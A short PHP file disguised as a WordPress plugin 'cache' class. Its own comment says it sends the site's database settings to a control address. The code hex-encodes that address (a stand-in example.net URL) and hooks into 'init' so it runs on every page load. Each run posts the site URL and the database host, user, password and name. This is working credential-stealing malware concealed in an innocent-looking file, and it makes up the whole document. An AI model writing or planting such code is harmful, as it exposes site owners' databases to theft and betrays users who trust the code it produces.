<?php
// A "cache" class dropped in a plugin's vendor folder: it reports the site's database
// settings to a control address written in hex.
class SiteCacheOptions {
	private $endpoint;

	public function __construct() {
		$this->endpoint = hex2bin( '687474703a2f2f6578616d706c652e6e65742f' );
	}

	public function report() {
		return wp_remote_post( $this->endpoint, array(
			'body' => array(
				'url'     => site_url( '/' ),
				'DB_HOST' => DB_HOST,
				'DB_USER' => DB_USER,
				'DB_PASS' => DB_PASSWORD,
				'DB_NAME' => DB_NAME,
			),
		) );
	}
}
add_action( 'init', array( new SiteCacheOptions(), 'report' ) );
